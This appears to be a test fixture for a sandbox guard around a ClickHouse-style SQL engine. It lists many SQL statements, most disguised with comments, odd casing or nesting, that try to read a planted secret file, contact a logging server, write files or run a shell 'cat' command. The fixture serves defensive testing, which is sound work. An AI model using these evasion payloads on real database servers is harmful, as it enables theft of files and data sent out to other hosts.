/** Ways out of the engine through SQL, for tests. */
export interface Target {
  /** Folder outside the engine that anyone may read and write; holds secret.csv, secret.tsv. */
  readonly folder: string;
  /** Folder where the engine itself may write: what is named "stolen" in it was written by SQL. */
  readonly inside: string;
  /** http://127.0.0.1:PORT of a server that notes who asks. */
  readonly url: string;
}

function fileReads({ folder }: Target): string[] {
  const file = `${folder}/secret.csv`;
  return [
    `SELECT * FROM file('${file}', 'CSV', 'a String')`,
    `select * from FiLe('${file}')`,
    `SELECT * FROM/**/file/* */('${file}', 'CSV', 'a String')`,
    `SELECT * FROM -- x\n file('${file}', 'CSV', 'a String')`,
    `SELECT * FROM \`file\`('${file}', 'CSV', 'a String')`,
    `SELECT * FROM "file"('${file}', 'CSV', 'a String')`,
    `SELECT * FROM (SELECT * FROM (SELECT * FROM file('${file}', 'CSV', 'a String')))`,
    `WITH x AS (SELECT * FROM file('${file}', 'CSV', 'a String')) SELECT * FROM x`,
    `SELECT 1 UNION ALL SELECT a FROM file('${file}', 'CSV', 'a UInt8')`,
    `SELECT 1 WHERE 'a' IN (SELECT * FROM file('${file}', 'CSV', 'a String'))`,
    `SELECT 1 WHERE 'a' IN file('${file}', 'CSV', 'a String')`,
    `SELECT * FROM view(SELECT * FROM file('${file}', 'CSV', 'a String'))`,
    `SELECT * FROM loop(file('${file}', 'CSV', 'a String')) LIMIT 1`,
    `SELECT * FROM numbers(1) JOIN file('${file}', 'CSV', 'a String') f ON 1 = 1`,
    `EXPLAIN SELECT * FROM file('${file}')`,
    `EXPLAIN ESTIMATE SELECT * FROM file('${file}', 'CSV', 'a String')`,
    `DESCRIBE TABLE file('${file}')`,
    `DESCRIBE (SELECT * FROM file('${file}'))`,
    `SELECT file('${file}')`,
    `SELECT length(FILE('${file}'))`,
    `SELECT * FROM filesystem('${folder}')`,
    `SELECT * FROM eval('SELECT * FROM file(\\'${file}\\')')`,
    `SELECT * FROM default.\`${file}\``,
    `SELECT * FROM \`${file}\``,
    `SELECT * FROM '${file}'`,
    `SELECT * FROM fileCluster('default', '${file}', 'CSV', 'a String')`,
    `SELECT * FROM sqlite('${folder}/x.db', 't')`,
    `SELECT * FROM executable('secret.csv', 'CSV', 'a String')`,
    `SELECT * FROM icebergLocal('${folder}')`,
    `SELECT * FROM deltaLakeLocal('${folder}')`,
  ];
}

function hostReads({ folder, url }: Target): string[] {
  const file = `${folder}/secret.csv`;
  const port = new URL(url).port;
  return [
    `SELECT * FROM url('${url}/a', 'CSV', 'a String')`,
    `SELECT * FROM url('file://${file}', 'CSV', 'a String')`,
    `SELECT * FROM s3('${url}/b/c.csv', 'CSV', 'a String')`,
    `SELECT * FROM s3('${url}/b/c.csv', NOSIGN, 'CSV', 'a String')`,
    `SELECT * FROM gcs('${url}/b/c.csv', 'CSV', 'a String')`,
    `SELECT * FROM remote('127.0.0.1:${port}', 'system.one')`,
    `SELECT * FROM remoteSecure('127.0.0.1:${port}', 'system.one')`,
    `SELECT * FROM cluster('default', 'system.one')`,
    `SELECT * FROM mysql('127.0.0.1:${port}', 'd', 't', 'u', 'p')`,
    `SELECT * FROM postgresql('127.0.0.1:${port}', 'd', 't', 'u', 'p')`,
    `SELECT * FROM mongodb('127.0.0.1:${port}', 'd', 't', 'u', 'p', 'a String')`,
    `SELECT * FROM redis('127.0.0.1:${port}', 'k', 'k String')`,
    `SELECT * FROM hdfs('hdfs://127.0.0.1:${port}/x', 'CSV', 'a String')`,
    `SELECT * FROM azureBlobStorage('${url}/x', 'c', 'b', 'a', 'k')`,
    `SELECT * FROM odbc('DSN=x', 'd', 't')`,
    `SELECT * FROM jdbc('x', 'd', 't')`,
  ];
}

function writes({ folder, url }: Target): string[] {
  const file = `${folder}/secret.csv`;
  const port = new URL(url).port;
  return [
    `INSERT INTO FUNCTION file('${folder}/out.csv', 'CSV', 'a UInt8') SELECT 1`,
    `INSERT INTO TABLE FUNCTION url('${url}/o', 'CSV', 'a UInt8') SELECT 1`,
    `INSERT INTO FUNCTION file('${folder}/out.csv', 'CSV', 'a UInt8') VALUES (1)`,
    `INSERT INTO FUNCTION remote('127.0.0.1:${port}', 'a.b') VALUES (1)`,
    `INSERT INTO own SELECT a FROM file('${file}', 'CSV', 'a UInt8')`,
    `INSERT INTO own FROM INFILE '${file}' FORMAT CSV`,
    `INSERT INTO own FROM/**/INFILE '${file}' FORMAT CSV`,
    `insert into own from infile '${file}' format CSV`,
    `SELECT 1 INTO OUTFILE '${folder}/out.csv'`,
    `SELECT 1 into outfile '${folder}/out.csv' TRUNCATE FORMAT CSV`,
    `SELECT 1 INTO/* */OUTFILE '${folder}/out.csv' AND STDOUT FORMAT CSV`,
    `EXPLAIN SELECT 1 INTO OUTFILE '${folder}/out.csv'`,
    `SHOW TABLES INTO OUTFILE '${folder}/out.csv'`,
    `SELECT 1; SELECT * FROM file('${file}', 'CSV', 'a String')`,
    `SELECT 1 FORMAT CSV; SELECT 1 INTO OUTFILE '${folder}/out.csv'`,
    `SELECT '\\'; SELECT 1', 1 INTO OUTFILE '${folder}/out.csv'`,
  ];
}

function tables({ folder, url }: Target): string[] {
  const file = `${folder}/secret.csv`;
  const port = new URL(url).port;
  return [
    `CREATE TABLE e1 (a String) ENGINE = File(CSV, '${file}')`,
    `CREATE TABLE e2 (a String) ENGINE=File(CSV)`,
    `CREATE TABLE e3 (a String) engine URL('${url}/e', CSV)`,
    `CREATE TABLE e4 (a String) ENGINE S3('${url}/b/k', 'CSV')`,
    `CREATE TABLE e5 (a String) ENGINE = \`URL\`('${url}/e', CSV)`,
    `CREATE TEMPORARY TABLE e6 (a String) ENGINE = File(CSV, '${file}')`,
    `CREATE TABLE e7 (a String) ENGINE = MySQL('127.0.0.1:${port}', 'd', 't', 'u', 'p')`,
    `CREATE TABLE e8 (a String) ENGINE = PostgreSQL('127.0.0.1:${port}', 'd', 't', 'u', 'p')`,
    `CREATE TABLE e9 (a String) ENGINE = Kafka('127.0.0.1:${port}', 't', 'g', 'CSV')`,
    `CREATE TABLE e10 (a String) ENGINE = Executable('secret.csv', CSV)`,
    `CREATE TABLE e11 (a String) ENGINE = Distributed('default', 'd', 't')`,
    `CREATE TABLE e12 (a String) ENGINE = EmbeddedRocksDB(0, '${folder}/r') PRIMARY KEY a`,
    `CREATE TABLE e13 (a String) ENGINE = SQLite('${folder}/x.db', 't')`,
    `CREATE TABLE e14 (a String) ENGINE = Remote('127.0.0.1:${port}', 'd', 't')`,
    `CREATE TABLE e15 (a String) ENGINE = FileLog('${folder}', 'CSV')`,
    `CREATE TABLE e16 AS file('${file}', 'CSV', 'a String')`,
    `CREATE TABLE e17 ENGINE = Memory AS SELECT * FROM file('${file}', 'CSV', 'a String')`,
    `CREATE OR REPLACE TABLE e18 (a String) ENGINE = File(CSV, '${file}')`,
    `CREATE TABLE e19 (a String DEFAULT file('${file}')) ENGINE = Memory`,
    `CREATE TABLE e20 (a UInt8) ENGINE = MergeTree ORDER BY a
       SETTINGS disk = disk(type = local, path = '${folder}/d/')`,
    `CREATE TABLE e21 (a UInt8) ENGINE = MergeTree ORDER BY a
       SETTINGS disk = disk(type = web, endpoint = '${url}/w/')`,
    `CREATE TABLE e22 (a UInt8) ENGINE = MergeTree ORDER BY a
       SETTINGS disk/**/= disk(type = object_storage, object_storage_type = 's3',
       endpoint = '${url}/w/')`,
  ];
}

function viewsAndDictionaries({ folder, url }: Target): string[] {
  const file = `${folder}/secret.csv`;
  const port = new URL(url).port;
  return [
    `CREATE VIEW v1 AS SELECT * FROM file('${file}', 'CSV', 'a String')`,
    `CREATE MATERIALIZED VIEW v2 ENGINE = File(CSV, '${folder}/mv.csv') AS SELECT 1 AS a`,
    `CREATE MATERIALIZED VIEW v3 ENGINE = Memory AS SELECT * FROM url('${url}/m', 'CSV', 'a String')`,
    `CREATE DATABASE d1 ENGINE = Filesystem('${folder}')`,
    `CREATE DATABASE d2 ENGINE = MySQL('127.0.0.1:${port}', 'd', 'u', 'p')`,
    `CREATE DATABASE d3 ENGINE = SQLite('${folder}/x.db')`,
    `CREATE DATABASE d4 ENGINE = PostgreSQL('127.0.0.1:${port}', 'd', 'u', 'p')`,
    `CREATE DATABASE d5 ENGINE = S3('${url}/b')`,
    `CREATE DICTIONARY x1 (a UInt64, b String) PRIMARY KEY a
       SOURCE(FILE(path '${file}' format 'CSV')) LAYOUT(FLAT()) LIFETIME(0)`,
    `CREATE DICTIONARY x2 (a UInt64, b String) PRIMARY KEY a
       SOURCE(HTTP(url '${url}/d' format 'CSV')) LAYOUT(FLAT()) LIFETIME(0)`,
    `CREATE DICTIONARY x3 (a UInt64, b String) PRIMARY KEY a
       SOURCE(EXECUTABLE(command 'cat ${file}' format 'CSV')) LAYOUT(FLAT()) LIFETIME(0)`,
    `CREATE DICTIONARY x4 (a UInt64, b String) PRIMARY KEY a
       SOURCE(CLICKHOUSE(HOST '127.0.0.1' PORT ${port} TABLE 't')) LAYOUT(FLAT()) LIFETIME(0)`,
    `CREATE DICTIONARY x5 (a UInt64, b String) PRIMARY KEY a
       SOURCE(CLICKHOUSE(QUERY 'SELECT 1, * FROM file(\\'${file}\\', \\'CSV\\', \\'a String\\')'))
       LAYOUT(FLAT()) LIFETIME(0)`,
    `CREATE DICTIONARY x6 (a UInt64, b String) PRIMARY KEY a
       SOURCE(CLICKHOUSE(TABLE 't' WHERE '1 IN (SELECT file(\\'${file}\\'))'))
       LAYOUT(FLAT()) LIFETIME(0)`,
  ];
}

function others({ folder, url }: Target): string[] {
  const file = `${folder}/secret.csv`;
  const port = new URL(url).port;
  return [
    `ALTER TABLE own UPDATE a = length(file('${file}')) WHERE 1`,
    `ALTER TABLE own ADD COLUMN f String DEFAULT file('${file}')`,
    `ALTER TABLE own MODIFY SETTING disk = disk(type = local, path = '${folder}/d/')`,
    `ALTER TABLE own FETCH PARTITION tuple() FROM '/x'`,
    `ALTER TABLE own FREEZE`,
    `DELETE FROM own WHERE file('${file}') != ''`,
    `ATTACH TABLE t9 FROM '${folder}' (a UInt8) ENGINE = MergeTree ORDER BY a`,
    `ATTACH TABLE t9 (a String) ENGINE = File(CSV, '${file}')`,
    `BACKUP DATABASE default TO File('${folder}/b')`,
    `BACKUP DATABASE default TO Disk('default', 'b')`,
    `BACKUP DATABASE default TO S3('${url}/b', 'k', 's')`,
    `RESTORE DATABASE default FROM File('${folder}/b')`,
    `CREATE FUNCTION f1 AS (x) -> file(x)`,
    `CREATE USER u IDENTIFIED BY 'x'`,
    `GRANT ALL ON *.* TO default`,
    `CREATE NAMED COLLECTION n AS url = '${url}'`,
    `SYSTEM RELOAD CONFIG`,
    `SYSTEM SHUTDOWN`,
    `CREATE DICTIONARY x7 (a UInt64, n UInt32) PRIMARY KEY a SOURCE(CLICKHOUSE(TABLE 't'))
       LAYOUT(NAIVE_BAYES(PATH '${file}' MODE 'byte' N 2)) LIFETIME(0)`,
    `CREATE DICTIONARY x8 (a UInt64, b String) PRIMARY KEY a SOURCE(CLICKHOUSE(TABLE 't'))
       LAYOUT(FLAT()) LIFETIME(0) SETTINGS(format_schema = '${file}')`,
    `CREATE DATABASE d6 ENGINE = Atomic SETTINGS disk = 'default'`,
    `CREATE TABLE e30 (a UInt8) ENGINE = MergeTree ORDER BY a SETTINGS storage_policy = 'default'`,
    `CREATE TABLE e31 (a UInt8) ENGINE = MergeTree ORDER BY a SETTINGS table_disk = 1`,
    `ALTER TABLE own MODIFY SETTING storage_policy = 'default'`,
    `ALTER TABLE own MODIFY COLUMN a MODIFY SETTING max_compress_block_size = 1, disk = 'x'`,
    `SELECT 1 SETTINGS implicit_table_at_top_level = '${file}'`,
    `SELECT 1 SETTINGS compatibility = '22.1'`,
    `SELECT 1 SETTINGS send_logs_level = 'trace'`,
    `SELECT * FROM system.jemalloc_profile_text SETTINGS jemalloc_enable_profiler = 1`,
    `SELECT naiveBayesClassifierWithProb('m', 'x')`,
    `SYSTEM JEMALLOC FLUSH PROFILE`,
    `SET format_schema = '${file}:x'`,
    `SELECT 1 SETTINGS format_schema = '${file}:x' FORMAT Protobuf`,
    `SELECT 1 FORMAT Template SETTINGS format_template_row = '${file}'`,
    `SELECT * FROM own SETTINGS additional_table_filters = {'own': 'file(\\'${file}\\') = 1'}`,
    `SELECT * FROM format(Template, 'x') SETTINGS format_template_row = '${file}'`,
    `SELECT hasColumnInTable('127.0.0.1:${port}', 'd', 't', 'c')`,
    `SELECT aiGenerate('x')`,
    `SELECT * FROM mergeTreeIndex(file('${file}'))`,
    `SELECT $$a$$ FROM file($x$${file}$x$, 'CSV', 'a String')`,
  ];
}

/**
 * Statements that make the engine write files below its own folder, where the kernel lets it: only
 * the guard stops them. Each writes when there is no guard.
 */
export function writesInside({ inside }: Pick<Target, 'inside'>): string[] {
  const errors = (name: string) =>
    `input_format_record_errors_file_path = '${inside}/stolen-${name}', input_format_allow_errors_num = 9`;
  const ssd = (name: string, key: string) =>
    `CREATE DICTIONARY ${name} (a ${key}, n UInt64) PRIMARY KEY a
       SOURCE(CLICKHOUSE(QUERY 'SELECT CAST(1, ''${key}'') AS a, 1 AS n'))
       LAYOUT(${name}(PATH '${inside}/stolen-${name}' FILE_SIZE 1048576 BLOCK_SIZE 4096
       READ_BUFFER_SIZE 8192 WRITE_BUFFER_SIZE 8192)) LIFETIME(MIN 0 MAX 10)`;
  return [
    `SELECT 1 AS a FORMAT Protobuf SETTINGS output_format_schema = '${inside}/stolen-1.sql'`,
    `SELECT 1 AS a SETTINGS max_threads = 1, \`output_format_schema\` = '${inside}/stolen-2.proto' FORMAT Protobuf`,
    `SELECT * FROM format(CSV, 'a UInt8', 'x\n1\n') SETTINGS ${errors('3')}`,
    `SELECT * FROM (SELECT * FROM format(CSV, 'a UInt8', 'x\n1\n') SETTINGS max_threads = 1, ${errors('4')})`,
    ssd('ssd_cache', 'UInt64'),
    "SELECT dictGet('ssd_cache', 'n', toUInt64(1))",
    ssd('complex_key_ssd_cache', 'String'),
    "SELECT dictGet('complex_key_ssd_cache', 'n', tuple('1'))",
  ];
}

/** Statements that read or write files or hosts, in many disguises. */
export function attacks(target: Target): string[] {
  const all = [fileReads, hostReads, writes, tables, viewsAndDictionaries, others, writesInside];
  return all.flatMap((list) => list(target));
}
